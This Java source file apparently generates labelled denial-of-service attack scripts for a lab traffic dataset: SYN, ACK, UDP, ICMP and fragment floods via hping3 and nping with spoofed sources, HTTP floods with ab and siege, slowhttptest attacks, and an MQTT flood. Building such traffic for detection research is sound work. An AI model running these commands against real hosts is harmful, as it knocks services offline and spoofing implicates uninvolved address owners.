package org.ldpi.lab.plan;

import java.util.List;
import java.util.Locale;

/** Denial of service: floods at several rates, from the own address or borrowed ones, and connections that are held. */
final class Flooding {
    private static final int LIMIT_SECONDS = 60;
    private static final int FIRST_PORT = 1024;
    private static final int PORTS = 60_000;
    private static final int BORROWED = 8;
    private static final double SPOOFED = 0.4;

    // A flood of echoes has no ports: what makes it many flows are its senders.
    private static final int[] ICMP_BORROWED = {24, 60, 120};
    private static final double ICMP_SPOOFED = 0.7;

    static final List<Recipe> ALL = List.of(
            flags("syn", "-S"),
            flags("ack", "-A"),
            flags("fin", "-F"),
            flags("rst", "-R"),
            flags("psh", "-P -A"),
            flags("urg", "-U -A"),
            new Recipe("udp-flood", List.of("dns"), List.of("hping3", "nping"), Flooding::udp),
            new Recipe("icmp-flood", List.of(), List.of("hping3", "nping"), Flooding::icmp),
            new Recipe("fragment-flood", List.of("http"), List.of("hping3", "nping"), Flooding::fragments),
            new Recipe("http-flood", List.of("http"), List.of("ab", "siege"), Flooding::http),
            slow("slow-headers", "-H", "GET"),
            slow("slow-body", "-B", "POST"),
            slow("slow-read", "-X", "GET"),
            slow("slow-range", "-R", "HEAD"),
            new Recipe("mqtt-flood", List.of("mqtt"), List.of("mosquitto_pub"), Flooding::mqtt));

    private Flooding() {}

    private static Recipe flags(String name, String flags) {
        return new Recipe(name + "-flood", List.of("http"), List.of("hping3", "nping"), draw -> {
            Draw.Endpoint server = draw.service("http");
            String target = server.host().ip4();
            String what = draw.tool().equals("nping")
                    ? " --tcp --flags " + (flags.contains("-A") && !name.equals("ack") ? name + ",ack" : name) + " -p "
                            + server.port()
                    : " " + flags + " -p " + server.port() + draw.oneOf("", " -w 1024", " -w 64240", " -d 120");
            return flood(draw, name, what, target, "" + server.port());
        });
    }

    private static Task udp(Draw draw) {
        Draw.Endpoint server = draw.service("dns");
        int port = draw.chance(0.5) ? server.port() : draw.between(1024, 60000);
        int bytes = draw.between(16, 700);
        String what = draw.tool().equals("nping")
                ? " --udp -p " + port + " --data-length " + bytes
                : " --udp -p " + port + " -d " + bytes;
        return flood(draw, "udp", what, server.host().ip4(), "" + port);
    }

    private static Task icmp(Draw draw) {
        int bytes = draw.between(8, 900);
        String what = draw.tool().equals("nping") ? " --icmp --data-length " + bytes : " --icmp -d " + bytes;
        return flood(draw, "icmp", what, draw.server().ip4(), "-");
    }

    private static Task fragments(Draw draw) {
        Draw.Endpoint server = draw.service("http");
        String what = draw.tool().equals("nping")
                ? " --udp -p " + server.port() + " --mtu 64 --data-length " + draw.between(150, 400)
                : " -S -p " + server.port() + " -f -m 32 -d " + draw.between(60, 200);
        return flood(draw, "fragment", what, server.host().ip4(), "" + server.port());
    }

    /** So many packets at a drawn rate; with borrowed addresses, each takes a share of them in turn. */
    private static Task flood(Draw draw, String name, String what, String target, String port) {
        boolean nping = draw.tool().equals("nping");
        boolean icmp = name.equals("icmp");
        boolean spoofed = draw.chance(icmp ? ICMP_SPOOFED : SPOOFED);
        int borrowed = icmp ? ICMP_BORROWED[draw.between(0, ICMP_BORROWED.length - 1)] : BORROWED;
        int senders = spoofed ? Math.min(borrowed, draw.size()) : 1;
        int each = (draw.size() + senders - 1) / senders;
        int perSecond = draw.oneOf(40, 100, 250, 500);
        // hping3 waits a second for answers that go to the borrowed addresses' owners: the next sender does not wait.
        String next = String.format(Locale.ROOT, " & sleep %.3f; ", (double) each / perSecond);
        StringBuilder script = new StringBuilder();
        for (int i = 0; i < senders; i++) {
            String source = spoofed ? draw.borrowedAddress() : "";
            // hping3 sends each packet from another port, nping all from one; hping3's count is on its standard error.
            if (nping) {
                script.append("nping -q -N --send-ip" + what + " --rate " + perSecond + " -c " + each + " --ttl "
                        + draw.client().ttl() + (spoofed ? " -S " + source : "") + " " + target + "; ");
            } else {
                int id = draw.between(1, 65_000);
                // The first port would be the same for all that start within a second, and an address may be borrowed
                // twice.
                String ports = icmp ? "" : " -s " + (FIRST_PORT + id % PORTS);
                script.append("hping3 -q -n" + what + ports + " -i u" + 1_000_000 / perSecond + " -c " + each + " -t "
                        + draw.client().ttl() + " -N " + id + (spoofed ? " -a " + source : "") + " " + target
                        + " > /dev/null" + (spoofed ? next : "; "));
            }
        }
        script.append(spoofed && !nping ? "wait" : "");
        return new Task(
                "malicious/dos/" + name + "_flood",
                nping ? "nping" : "hping3",
                target,
                port,
                LIMIT_SECONDS,
                script.toString());
    }

    private static Task http(Draw draw) {
        Draw.Endpoint server = draw.service("http");
        String tool = draw.toolOr("ab");
        String url = "http://" + server.host().ip4() + ":" + server.port() + "/"
                + draw.oneOf(draw.site().pages()).folder() + "/index.html";
        int parallel = draw.between(4, 20);
        int each = Math.max(1, draw.size() / parallel);
        String script = tool.equals("siege")
                ? "printf 'connection = close\\nlogging = false\\nparser = false\\n' > siege.rc; siege -R siege.rc -b -c "
                        + parallel + " -r " + each + " " + url
                : "ab -s 5 -n " + draw.size() + " -c " + Math.min(parallel, draw.size()) + " " + url;
        return new Task(
                "malicious/dos/http_flood", tool, server.host().ip4(), "" + server.port(), LIMIT_SECONDS, script);
    }

    private static Recipe slow(String name, String mode, String method) {
        return new Recipe(name, List.of("http"), List.of("slowhttptest"), draw -> {
            Draw.Endpoint server = draw.service("http");
            String target = server.host().ip4();
            String script = "slowhttptest " + mode + " -c " + draw.size() + " -i " + draw.between(2, 4) + " -r "
                    + draw.between(6, 20) + " -l " + draw.between(18, 30) + " -x " + draw.between(10, 40)
                    + " -p 3 -t " + method
                    + (mode.equals("-X") ? " -w 10 -y 40 -n 3 -z 8 -k 2" : "")
                    + (mode.equals("-R") ? " -a 5 -b 500" : "")
                    + " -u http://" + target + ":" + server.port() + "/"
                    + draw.oneOf(draw.site().pages()).folder() + "/index.html";
            return new Task(
                    "malicious/dos/slow_http", "slowhttptest", target, "" + server.port(), LIMIT_SECONDS, script);
        });
    }

    /** Connections in quick succession, each with a burst of messages. */
    private static Task mqtt(Draw draw) {
        Draw.Endpoint server = draw.service("mqtt");
        String target = server.host().ip4();
        int burst = draw.oneOf(1, 3, 20);
        String script = String.format(
                Locale.ROOT,
                "done=0; while [ $done -lt %d ]; do mosquitto_pub -h %s -p %d -t site/flood -q %d --repeat %d"
                        + " -m %s; done=$((done + 1)); echo \"connections opened: $done\" > report; done",
                draw.size(),
                target,
                server.port(),
                draw.between(0, 1),
                burst,
                "x".repeat(draw.between(10, 200)));
        return new Task("malicious/dos/mqtt_flood", "mosquitto_pub", target, "" + server.port(), LIMIT_SECONDS, script);
    }
}
